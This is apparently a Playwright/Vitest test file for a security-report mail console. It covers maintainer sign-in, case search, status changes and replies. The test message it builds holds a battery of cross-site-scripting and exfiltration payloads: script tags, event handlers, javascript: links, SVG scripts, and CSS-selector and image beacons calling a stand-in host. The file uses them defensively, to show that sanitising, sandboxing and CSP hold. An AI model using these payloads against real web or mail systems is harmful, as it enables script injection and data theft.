import { mkdirSync, readdirSync, readFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../src/app.ts';
import { freePort } from '../../src/db/embedded.ts';
import { sha256 } from '../../src/cases/store.ts';
import { startWorker, type Worker } from '../../src/worker.ts';
import { ingest, makeApp } from '../helpers/app.ts';
import { launchChromium, watchPage } from '../helpers/browser.ts';
import { startConsole, type ConsoleServer } from '../helpers/console.ts';
import { createTestDatabase, type TestDatabase } from '../helpers/db.ts';
import { makeMessage, messageIdOf, waitFor } from '../helpers/messages.ts';
import { startSmtp, type Captured, type SmtpTestServer } from '../helpers/smtp.ts';

// The console in a real headless Chromium (Debian's, through playwright-core), with the worker sending mail to
// the SMTP test server: a maintainer signs in with the link from their mail, finds a case by search, changes
// its status and replies; the reporter gets the reply in their thread. Then hostile mail: every message of the
// corpus's html folder and a message built to attack the page are shown, and no script runs (no dialog, no CSP
// violation, no request leaving the console's origin); beside it, the control that the same watch does catch a
// script that runs. With MAILCASE_SCREENSHOTS=1 the queue, a case and the dashboard are saved to docs/images/.

const ALICE = 'alice@project.example';
const REPORTER = 'carol@reporter.example';
const CORPUS_HTML = path.resolve('test/fixtures/corpus/html');
const SHOTS = process.env.MAILCASE_SCREENSHOTS === '1' ? path.resolve('docs/images') : path.join(os.tmpdir(), 'mailcase-console-shots');

/** The body, quoted-printable decoded (our mail is QP text). */
function text(m: Captured): string {
  const t = m.raw.toString('latin1');
  const qp = t.slice(t.search(/\r?\n\r?\n/)).replace(/=\r?\n/g, '');
  return Buffer.from(qp.replace(/=([0-9A-F]{2})/g, (_x, h: string) => String.fromCharCode(Number.parseInt(h, 16))), 'latin1').toString('utf8');
}

// Everything a message can try against the page that shows it.
// The beacon is a real server on another origin that counts every request reaching it.
let BEACON = '';
const beaconHits: string[] = [];
const attackHtml = (): string => `<html><head><meta http-equiv="refresh" content="0;url=${BEACON}?refresh">
<style>@import url(${BEACON}?import); input[value^="a"] { background: url(${BEACON}?css-exfil) } body { background: url(${BEACON}?bg) }</style>
<script>alert('script'); fetch('${BEACON}?fetch')</script><base href="${BEACON}/"></head>
<body onload="alert('onload')"><p>Hello from the attacker</p>
<img src="x" onerror="alert('onerror')"><img src="${BEACON}?img">
<a href="javascript:alert('js-link')">click me</a>
<svg xmlns="http://www.w3.org/2000/svg"><script>alert('svg')</script><image href="${BEACON}?svg"/></svg>
<iframe src="${BEACON}?iframe"></iframe><object data="${BEACON}?object"></object>
<form action="${BEACON}?form"><input name="x" value="a"></form>
<link rel="stylesheet" href="${BEACON}?link"><video poster="${BEACON}?poster"></video>
</body></html>`;

function attackMail(): Buffer {
  const boundary = 'attack-boundary';
  return Buffer.from([
    `From: "<script>alert('from')</script>" <attacker@evil.example>`,
    'To: security@example.org',
    `Subject: <img src=x onerror=alert('subject')> "><script>alert('subject2')</script>`,
    `Message-ID: <attack-${Date.now()}@evil.example>`,
    `Date: ${new Date().toUTCString()}`,
    'MIME-Version: 1.0',
    `Content-Type: multipart/mixed; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: multipart/alternative; boundary="alt"',
    '',
    '--alt',
    'Content-Type: text/plain; charset=utf-8',
    '',
    `Plain part <script>alert('text')</script> </pre><script>alert('pre')</script>`,
    '--alt',
    'Content-Type: text/html; charset=utf-8',
    '',
    attackHtml(),
    '--alt--',
    `--${boundary}`,
    'Content-Type: text/html; name="evil.html"',
    'Content-Disposition: attachment; filename="<script>alert(1)</script>.html"',
    '',
    `<script>alert('attachment')</script>`,
    `--${boundary}`,
    'Content-Type: image/svg+xml; name="evil.svg"',
    'Content-Disposition: attachment; filename="evil.svg"',
    '',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg-attachment')"><script>alert('svg-att')</script></svg>`,
    `--${boundary}--`,
    '',
  ].join('\r\n'));
}

/** For the pictures only: the filler cases get ages, severities, states and milestone times, some late. */
async function giveHistory(db: TestDatabase): Promise<void> {
  await db.pool.query(`
    with x as (select id, row_number() over (order by id) as k from cases where subject like 'Open redirect%')
    update cases c set
      opened_at = now() - make_interval(days => (x.k * 9)::int, hours => (x.k * 5)::int),
      severity = (array['critical','high','medium','low','high','medium'])[x.k],
      status = (array['accepted','triaged','fixed','acknowledged','closed','triaged'])[x.k],
      acknowledged_at = now() - make_interval(days => (x.k * 9)::int) + make_interval(hours => (x.k * 9)::int),
      assessed_at = case when x.k <> 4 then now() - make_interval(days => (x.k * 9)::int) + make_interval(days => (x.k)::int) end,
      resolved_at = case when x.k in (3, 5) then now() - make_interval(days => 1) end
    from x where c.id = x.id`);
}

describe('the console in a browser', () => {
  let db: TestDatabase;
  let smtp: SmtpTestServer;
  let app: App;
  let worker: Worker;
  let srv: ConsoleServer;
  let browser: Browser;
  let page: Page;
  let beacon: http.Server;
  let reportId: string;
  const refsByFile = new Map<string, string>();

  beforeAll(async () => {
    [db, smtp, browser] = await Promise.all([createTestDatabase(), startSmtp(), launchChromium()]);
    beacon = http.createServer((req, res) => {
      beaconHits.push(req.url ?? '');
      res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' }).end('ok');
    });
    await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
    BEACON = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}/beacon`;
    const port = await freePort();
    app = await makeApp(db, {
      maintainers: [{ email: ALICE, name: 'Alice' }],
      smtp: smtp.config(),
      outbox: { poll_interval_ms: 100, batch_size: 20, max_attempts: 3, retry_base_seconds: 1, retry_max_seconds: 5 },
      http: { port, public_url: `http://127.0.0.1:${port}` },
    });
    const report = makeMessage({ i: 1, subject: 'Heap overflow in the PNG decoder', from: REPORTER });
    reportId = messageIdOf(report);
    await ingest(app, 'security', [report, ...Array.from({ length: 6 }, (_, i) => makeMessage({ i: i + 2, subject: `Open redirect in login form ${i + 2}` }))]);
    const files = readdirSync(CORPUS_HTML).filter((f) => f.endsWith('.eml')).sort();
    const attack = attackMail();
    await ingest(app, 'security', [...files.map((f) => readFileSync(path.join(CORPUS_HTML, f))), attack]);
    for (const [name, raw] of [...files.map((f) => [f, readFileSync(path.join(CORPUS_HTML, f))] as const), ['attack', attack] as const]) {
      const r = await db.pool.query<{ ref: string }>(
        `select c.ref from raw_messages r join messages m on m.raw_message_id = r.id join cases c on c.id = m.case_id where r.source_key = $1`,
        [sha256(raw).toString('hex')],
      );
      if (r.rows[0]) refsByFile.set(name, r.rows[0].ref);
    }
    if (process.env.MAILCASE_SCREENSHOTS === '1') await giveHistory(db);
    worker = startWorker(app);
    srv = await startConsole(app, port);
    page = await browser.newPage({ viewport: { width: 1360, height: 900 } });
    mkdirSync(SHOTS, { recursive: true });
  });
  afterAll(async () => {
    beacon?.close();
    await browser?.close();
    await srv?.close();
    await worker?.stop();
    await Promise.all([smtp?.close(), db?.drop()]);
  });

  it('signs in with the mailed link, finds a case by search, changes its status and replies; the reporter gets the reply in their thread', async () => {
    const w = watchPage(page, srv.url);
    await page.goto(`${srv.url}/`);
    expect(page.url()).toBe(`${srv.url}/login`);
    await page.fill('input[name=email]', ALICE);
    await page.click('button[type=submit]');
    await page.waitForSelector('#sent');
    const mail = await waitFor(async () => smtp.messages.find((m) => m.envelope.to.includes(ALICE) && /Sign in/.test(m.header('Subject') ?? '')), 'the sign-in mail', 30_000);
    const link = /(http:\/\/127\.0\.0\.1:\d+\/login\/[A-Za-z0-9_-]{43})/.exec(text(mail))?.[1];
    expect(link).toBeDefined();
    await page.goto(link!);
    expect(page.url()).toBe(`${srv.url}/`);
    await page.waitForSelector('#queue');
    if (SHOTS) await page.screenshot({ path: path.join(SHOTS, 'console-queue.png') });

    await page.fill('input[name=q]', 'PNG decoder');
    await page.click('form.filters button[type=submit]');
    const rows = page.locator('#queue tbody tr');
    expect(await rows.count()).toBe(1);
    await rows.first().locator('a').first().click();
    await page.waitForSelector('#status');
    const ref = page.url().split('/').pop()!;
    expect(await page.textContent('h1')).toContain('Heap overflow in the PNG decoder');

    await page.selectOption('select[name=status]', 'triaged');
    await page.click('button[value=change]');
    await page.waitForSelector('#action-done');
    expect((await page.textContent('#status'))?.trim()).toBe('triaged');

    await page.fill('textarea[name=text]', 'Thank you, we reproduced it and are working on a fix.');
    await page.click('button[value=write]');
    await page.waitForSelector('#action-done');
    const reply = await waitFor(async () => smtp.messages.find((m) => m.envelope.to.includes(REPORTER) && text(m).includes('we reproduced it')), 'the reply to the reporter', 30_000);
    expect(reply.header('In-Reply-To')).toBe(reportId);
    expect(reply.header('References')).toContain(reportId);
    expect(reply.header('Subject')).toContain(`[${ref}]`);
    expect(reply.header('From')).toContain('security@example.org');
    await page.reload();
    expect(await page.locator('article.msg.out').count()).toBeGreaterThan(0);
    if (SHOTS) await page.screenshot({ path: path.join(SHOTS, 'console-case.png'), fullPage: false });

    await page.goto(`${srv.url}/dashboard`);
    await page.waitForSelector('#stats svg, #stats');
    if (SHOTS) await page.screenshot({ path: path.join(SHOTS, 'console-dashboard.png') });
    expect(w).toEqual({ dialogs: [], cspErrors: [], foreignRequests: [], pageErrors: [] });
  });

  it('control: the same watch catches a script that runs, a dialog and a request off the origin', async () => {
    const p = await browser.newPage();
    const w = watchPage(p, srv.url);
    await p.setContent(`<script>alert('control'); fetch('${BEACON}?control').catch(() => {})</script>`);
    await waitFor(async () => w.dialogs.length > 0 && w.foreignRequests.length > 0 && beaconHits.length > 0, 'the control script to be seen', 10_000);
    expect(w.dialogs).toEqual(['alert: control']);
    expect(beaconHits).toEqual(['/beacon?control']);
    beaconHits.length = 0;
    await p.close();
  });

  it('runs no script and loads nothing from elsewhere for each message of the corpus html folder and the attack message', async () => {
    expect(refsByFile.has('attack')).toBe(true);
    expect(refsByFile.size).toBeGreaterThanOrEqual(10);
    for (const [file, ref] of refsByFile) {
      const w = watchPage(page, srv.url);
      await page.goto(`${srv.url}/cases/${ref}`);
      await page.waitForSelector('#status');
      // Open every HTML version, so the sandboxed frames load too.
      for (const s of await page.locator('details summary').all()) await s.click();
      const frames = await page.locator('iframe.html').count();
      for (let i = 0; i < frames; i++) await (await (await page.locator('iframe.html').nth(i).elementHandle())!.contentFrame())?.waitForLoadState('load');
      await page.waitForTimeout(frames ? 300 : 0);
      expect({ file, ...w, beaconHits }).toEqual({ file, dialogs: [], cspErrors: [], foreignRequests: [], pageErrors: [], beaconHits: [] });
      page.removeAllListeners('dialog');
      page.removeAllListeners('console');
      page.removeAllListeners('requestfinished');
      page.removeAllListeners('requestfailed');
      page.removeAllListeners('pageerror');
    }
    // The control that must still work: the attack message's text is there to read, as text.
    await page.goto(`${srv.url}/cases/${refsByFile.get('attack')}`);
    expect(await page.textContent('body')).toContain("Plain part <script>alert('text')</script>");
    expect(await page.textContent('h1')).toContain("<img src=x onerror=alert('subject')>");
  }, 240_000);

  it('keeps a sanitiser bypass inert too: raw hostile HTML in the stored body runs nothing in its sandboxed frame', async () => {
    const ref = refsByFile.get('attack')!;
    await db.pool.query(`update messages set body_html = $1 where case_id = (select id from cases where ref = $2) and direction = 'in'`, [attackHtml(), ref]);
    const w = watchPage(page, srv.url);
    await page.goto(`${srv.url}/cases/${ref}`);
    for (const s of await page.locator('details summary').all()) await s.click();
    const frame = page.locator('iframe.html').first();
    expect(await frame.getAttribute('sandbox')).toBe('');
    await page.waitForTimeout(500);
    // CSP reports what it blocked (the wall working); nothing ran and nothing left.
    expect(w.dialogs).toEqual([]);
    expect(w.foreignRequests).toEqual([]);
    expect(w.pageErrors).toEqual([]);
    // Opened on its own, the frame's document is still sandboxed by its CSP.
    const direct = await page.goto(`${srv.url}/cases/${ref}/messages/${await frame.getAttribute('src').then((s) => s!.split('/')[4])}/html`);
    expect(direct!.headers()['content-security-policy']).toBe("sandbox; default-src 'none'; img-src data:; frame-ancestors 'self'");
    await page.waitForTimeout(300);
    expect(w.dialogs).toEqual([]);
    expect(w.foreignRequests).toEqual([]);
    expect(beaconHits).toEqual([]);

    // Attachments download, never display: Content-Disposition attachment, never the stored type.
    await page.goto(`${srv.url}/cases/${ref}`);
    const href = await page.locator('ul.attachments a').first().getAttribute('href');
    const res = await page.request.get(`${srv.url}${href!}`);
    expect(res.headers()['content-disposition']).toMatch(/^attachment;/);
    expect(res.headers()['content-type']).toBe('application/octet-stream');
    expect(res.headers()['x-content-type-options']).toBe('nosniff');
  });
});
